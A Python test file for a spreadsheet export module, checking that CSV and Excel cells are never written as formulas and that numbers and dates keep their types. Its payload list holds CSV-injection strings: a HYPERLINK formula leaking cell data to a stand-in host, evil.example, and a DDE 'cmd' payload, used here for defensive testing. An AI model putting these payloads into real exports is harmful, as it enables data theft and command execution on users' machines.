"""The one way out to a spreadsheet (core.spreadsheets): no cell of a CSV or Excel export
is a formula, whatever text it carries; numbers and dates stay numbers and dates."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

from openpyxl import load_workbook

from core.spreadsheets import csv_response, xlsx_response

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
ROWS = [
    ["Text", "Amount", "Count", "Date"],
    *[[text, Decimal("-1250.50"), -3, datetime.date(2026, 1, 31)] for text in PAYLOADS],
    ["plain remark", Decimal("10.00"), 0, None],
]


def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers():
    response = csv_response(ROWS, filename="x")
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert [row[0] for row in rows[1:-1]] == [f"'{text}" for text in PAYLOADS]
    assert rows[-1] == ["plain remark", "10.00", "0", ""]
    for row in rows[1:]:
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert rows[1][1:] == ["-1250.50", "-3", "2026-01-31"]  # negative numbers as numbers


def test_excel_cells_are_strings_never_formulas_and_numbers_stay_numbers():
    response = xlsx_response(ROWS, filename="x", title="DCR")
    content = response.content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula at all
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.title == "DCR"
    cells = list(sheet.iter_rows(min_row=2))
    for cell_row, text in zip(cells, PAYLOADS, strict=False):
        text_cell, amount, count, day = cell_row
        assert text_cell.data_type == "s"
        assert text_cell.value == text.replace("\r", "\n")  # XML reads a bare CR as a LF
        assert text_cell.quotePrefix  # editing it in Excel keeps it text
        assert amount.data_type == "n" and Decimal(str(amount.value)) == Decimal("-1250.50")
        assert count.value == -3
        assert day.is_date and day.value.date() == datetime.date(2026, 1, 31)
    assert cells[-1][0].value == "plain remark" and not cells[-1][0].quotePrefix
    assert cells[-1][3].value is None
